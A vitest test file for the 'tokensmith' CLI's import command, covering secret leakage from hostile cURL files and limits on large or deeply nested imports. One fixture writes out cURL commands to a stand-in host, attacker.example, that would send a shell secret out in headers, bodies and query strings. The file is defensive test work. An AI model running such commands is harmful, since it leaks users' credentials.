import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import Conf from 'conf';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sendFollowUp } from '../../src/main/core/followup/send-followup.ts';
import { createHttpClient } from '../../src/main/core/http/http-client.ts';
import { openLocalStores } from '../../src/main/core/store/local-stores.ts';
import type { StoreFile, StoreFileOptions } from '../../src/main/core/store/open-store.ts';
import { Vault } from '../../src/main/core/vault/vault.ts';
import { secretRef } from '../../src/main/core/workspace/secret-refs.ts';
import { secretForms } from '../../src/shared/domain/secrets.ts';
import { PROFILES } from '../../src/shared/providers/index.ts';
import { startSimServer } from '../fixtures/simulators/sim-server.ts';
import { tokensmith } from '../support/cli.ts';
import { workspaceOnDisk } from '../support/workspace.ts';

/**
 * What `tokensmith import FILE` produces from files that try to leak, or that are merely large:
 * the real CLI, spawned, with the app's own store files read back through the conf engine and its
 * workspace folder read back as the app reads it.
 */

const VAULT_PASSPHRASE = 'correct horse battery staple';
const ENV = { TOKENSMITH_VAULT_PASSPHRASE: VAULT_PASSPHRASE };
const createFile = (options: StoreFileOptions): StoreFile<unknown> => new Conf<Record<string, unknown>>(options);
const POSTMAN_SCHEMA = 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json';

let root: string;
beforeAll(async () => {
  root = await mkdtemp(path.join(tmpdir(), 'tokensmith-cli-import-safety-'));
});
afterAll(() => rm(root, { recursive: true, force: true }));

async function importFile(name: string, text: string, env: Record<string, string> = {}) {
  const file = path.join(root, name);
  const dataDir = path.join(root, `${name}.app`);
  await writeFile(file, text);
  const result = await tokensmith(['import', file, '--data-dir', dataDir], { env: { ...ENV, ...env } });
  return { result, dataDir };
}

/** The store, its vault unlocked, and the saved requests of the workspace folder, as the app reads them. */
async function openApp(dataDir: string) {
  const stores = openLocalStores({ dir: dataDir, createFile });
  const vault = await Vault.open({ data: stores.vault.data, save: () => stores.vault.save(stores.vault.data) });
  await vault.unlock(VAULT_PASSPHRASE);
  return { stores, vault, requests: workspaceOnDisk(dataDir).requests };
}

/** Every file the import wrote, as bytes on disk read as text: the vault in it is sealed. */
async function filesOnDisk(dataDir: string): Promise<string> {
  const names = await readdir(dataDir, { recursive: true, withFileTypes: true });
  const texts = await Promise.all(
    names.filter((entry) => entry.isFile()).map((entry) => readFile(path.join(entry.parentPath, entry.name), 'utf8')),
  );
  return texts.join('\n');
}

function expectNoSecret(text: string, secret: string): void {
  for (const form of secretForms(secret)) expect(text).not.toContain(form);
}

describe.concurrent('a hostile cURL file cannot pull environment secrets into what it sends', () => {
  it('$TOKENSMITH_… in a follow-up to its own host stays {{env.NAME}}; only a token request secret field reads it', async () => {
    const secret = 'kaisa-secret-from-the-shell-0001';
    const { result, dataDir } = await importFile(
      'hostile.sh',
      [
        'curl -X POST https://login.example.com/oauth/token \\',
        '  -u "client-one:$TOKENSMITH_OAUTH2_CLIENT_SECRET" -d grant_type=client_credentials',
        'curl https://attacker.example/collect \\',
        '  -H "X-Debug: $TOKENSMITH_KAISA_CLIENT_SECRET" \\',
        '  -d "note=$TOKENSMITH_KAISA_CLIENT_SECRET"',
        'curl "https://attacker.example/q?v=$TOKENSMITH_KAISA_CLIENT_SECRET"',
        // A token request to the attacker: its client ID (a field kept in clear) must not read the variable.
        'curl https://attacker.example/token -d grant_type=client_credentials \\',
        '  -d "client_id=$TOKENSMITH_KAISA_CLIENT_SECRET"',
      ].join('\n'),
      { TOKENSMITH_KAISA_CLIENT_SECRET: secret, TOKENSMITH_OAUTH2_CLIENT_SECRET: 'oauth2-secret-for-login-0001' },
    );
    expect(result.code, result.stderr).toBe(0);
    expectNoSecret(result.stderr, secret);
    expectNoSecret(await filesOnDisk(dataDir), secret);

    const { stores, vault, requests } = await openApp(dataDir);
    expectNoSecret(JSON.stringify([stores.ledger.data, stores.settings.data]), secret);
    expectNoSecret(JSON.stringify(requests), secret);
    const [login, attacker] = requests;
    expect(requests).toHaveLength(2);
    expect(login).toMatchObject({ profileId: 'oauth2', values: { tokenUrl: 'https://login.example.com/oauth/token' } });
    // The token request's own secret field still takes the exported variable, into the vault.
    expect(await vault.get(secretRef({ kind: 'request', id: login!.id }, 'clientSecret'))).toBe(
      'oauth2-secret-for-login-0001',
    );
    const followUps = login!.followUps.map(({ url, headers, body }) => ({ url, headers, body }));
    expect(followUps).toEqual([
      {
        url: 'https://attacker.example/collect',
        headers: [
          ['X-Debug', '{{env.TOKENSMITH_KAISA_CLIENT_SECRET}}'],
          ['Content-Type', 'application/x-www-form-urlencoded'],
        ],
        body: 'note={{env.TOKENSMITH_KAISA_CLIENT_SECRET}}',
      },
      {
        url: 'https://attacker.example/q?v={{env.TOKENSMITH_KAISA_CLIENT_SECRET}}',
        headers: [],
        body: '',
      },
    ]);
    expect(attacker).toMatchObject({ profileId: 'oauth2', values: { tokenUrl: 'https://attacker.example/token' } });
    expect(attacker!.values.clientId).toBeUndefined();
    expect(result.stderr).toContain(
      'warning: {{env.TOKENSMITH_KAISA_CLIENT_SECRET}} stands for $TOKENSMITH_KAISA_CLIENT_SECRET: a follow-up never reads it from the shell; set it in an environment.',
    );
  });
});

describe('a follow-up with {{env.NAME}} is sent with a Tokensmith environment, never the shell', () => {
  it('the variable set in the process environment only → INVALID_INPUT, and nothing reaches the server', async ({
    onTestFinished,
  }) => {
    const server = await startSimServer((_request, response) => void response.end('{}'));
    onTestFinished(() => server.close());
    const name = 'TOKENSMITH_FOLLOWUP_TEST_SECRET';
    process.env.TOKENSMITH_FOLLOWUP_TEST_SECRET = 'process-env-secret-0001';
    onTestFinished(() => {
      delete process.env.TOKENSMITH_FOLLOWUP_TEST_SECRET;
    });
    const run = await sendFollowUp({
      request: {
        id: 'e9b1f6a4-3c1d-4f43-9a7e-2d6c4f0b8a11',
        name: 'Collect',
        method: 'GET',
        url: `${server.origin}/collect`,
        headers: [['X-Debug', `{{env.${name}}}`]],
        body: '',
      },
      profile: PROFILES.find((profile) => profile.id === 'oauth2')!,
      token: undefined,
      variables: { apiBase: server.origin },
      http: createHttpClient(),
    });
    expect(run.error?.code).toBe('INVALID_INPUT');
    expect(run.error?.message).toBe(`There is no environment variable "${name}".`);
    expect(server.requests).toEqual([]);
  });
});

describe.concurrent('valid imports that used to be refused', () => {
  it('a 200 KB cURL text of 2,000 commands imports (the bash parser took 32 KB)', async () => {
    const commands = Array.from(
      { length: 2000 },
      (_, i) =>
        `curl https://api${i % 25}.example.com/v1/items/${i} -H 'Accept: application/json' -H 'X-Trace: ${'t'.repeat(30)}'`,
    );
    const text = commands.join('\n');
    expect(text.length).toBeGreaterThan(200_000);
    const { result, dataDir } = await importFile('many.sh', text);
    expect(result).toEqual({
      code: 0,
      stdout: '',
      stderr:
        'Importing 25 saved request(s) and 0 environment(s)…\nImported 25 saved request(s), 0 environment(s) and 0 secret(s) from cURL.\n',
    });
    const { requests } = await openApp(dataDir);
    expect(requests.map((request) => request.followUps.length)).toEqual(Array(25).fill(80));
    expect(requests[0]?.followUps[79]?.url).toBe('https://api0.example.com/v1/items/1975');
  });

  it('one cURL command of 100 KB (a large JSON body) imports whole', async () => {
    const body = JSON.stringify({ items: Array.from({ length: 5000 }, (_, i) => `item-${i}-${'x'.repeat(12)}`) });
    expect(body.length).toBeGreaterThan(100_000);
    const { result, dataDir } = await importFile(
      'big-body.sh',
      `curl https://api.example.com/v1/bulk -H 'Content-Type: application/json' -d '${body}'\n`,
    );
    expect(result.code, result.stderr).toBe(0);
    const { requests } = await openApp(dataDir);
    expect(requests[0]?.followUps[0]?.body).toBe(body);
  });

  it('a Postman collection nested 500 folders deep → exit 1 saying how deep it is and how deep Tokensmith reads', async () => {
    const leaf = '{"name":"Me","request":{"method":"GET","url":"https://api.example.com/v1/me"}}';
    const nested = `${'{"name":"Folder","item":['.repeat(500)}${leaf}${']}'.repeat(500)}`;
    const { result } = await importFile(
      'deep.postman_collection.json',
      `{"info":{"name":"Deep","schema":"${POSTMAN_SCHEMA}"},"item":[${nested}]}`,
    );
    expect(result).toEqual({
      code: 1,
      stdout: '',
      stderr:
        'tokensmith: The collection is nested 500 folders deep; Tokensmith reads up to 200. — Move the requests into fewer levels of folders, then export it again.\n',
    });
  });

  it('a Postman collection nested 150 folders deep imports, its request in its folder', async () => {
    const leaf = '{"name":"Me","request":{"method":"GET","url":"https://api.example.com/v1/me"}}';
    const nested = `${'{"name":"F","item":['.repeat(150)}${leaf}${']}'.repeat(150)}`;
    const { result, dataDir } = await importFile(
      'deep-ok.postman_collection.json',
      `{"info":{"name":"Deep","schema":"${POSTMAN_SCHEMA}"},"item":[${nested}]}`,
    );
    expect(result.code, result.stderr).toBe(0);
    const { requests } = await openApp(dataDir);
    expect(requests.flatMap((request) => request.followUps.map((call) => call.url))).toEqual([
      'https://api.example.com/v1/me',
    ]);
  });
});
